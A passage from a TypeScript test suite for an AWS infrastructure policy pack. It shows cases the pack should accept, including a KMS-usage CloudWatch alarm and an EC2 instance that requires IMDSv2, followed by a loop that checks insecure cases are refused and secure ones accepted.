                    Metadata: {
                        "AWS::CloudFormation::Interface": {
                            ParameterGroups: [{ Label: { default: "Alarm" }, Parameters: ["Threshold"] }],
                        },
                    },
                    Parameters: { Threshold: { Type: "Number" } },
                    Resources: {
                        Topic: { Type: "AWS::SNS::Topic", Properties: { TopicName: "kms-usage" } },
                        SignAlarm: {
                            Type: "AWS::CloudWatch::Alarm",
                            Properties: {
                                Namespace: "AWS/KMS",
                                MetricName: "SignRequests",
                                Statistic: "Sum",
                                Period: 300,
                                EvaluationPeriods: 1,
                                Threshold: { Ref: "Threshold" },
                                ComparisonOperator: "GreaterThanThreshold",
                                AlarmActions: [{ Ref: "Topic" }],
                            },
                        },
                    },
                }),
            }),
    },
    {
        stack: "cross-account",
        name: "an instance of account B launched with the caller's instance profile, IMDSv2 required, hop limit 1",
        edit: r =>
            aws(
                r,
                "aws:ec2/instance:Instance",
                "reader",
                {
                    ami: "ami-0123456789abcdef0",
                    instanceType: "t3.micro",
                    iamInstanceProfile: "cross-account-caller-profile",
                    metadataOptions: { httpEndpoint: "enabled", httpTokens: "required", httpPutResponseHopLimit: 1 },
                    subnetId: "subnet-0123456789abcdef0",
                },
                "cross-account-caller",
            ),
    },
];

/** REDTEAM_ALL=1 runs the skipped (MISS) cases too, to see what the pack says of them. */
const skipMisses = process.env.REDTEAM_ALL !== "1";

describe("allowlist: red-team round 4 on identity (who becomes the workload roles and ServiceAccounts)", () => {
    for (const c of insecure) {
        (c.skip && skipMisses ? it.skip : it)(`refuses: ${c.stack}: ${c.name}`, async () => {
            const r = await stackResources(c.stack);
            c.edit(r);
            assertRefused(await runWholePack(c.stack, r), c.refused ?? /./, c.policy);
        });
    }
    for (const c of secure) {
        (c.skip && skipMisses ? it.skip : it)(`accepts: ${c.stack}: ${c.name}`, async () => {
            const r = await stackResources(c.stack);
            c.edit(r);
            assertClean(await runWholePack(c.stack, r));
        });
    }
});
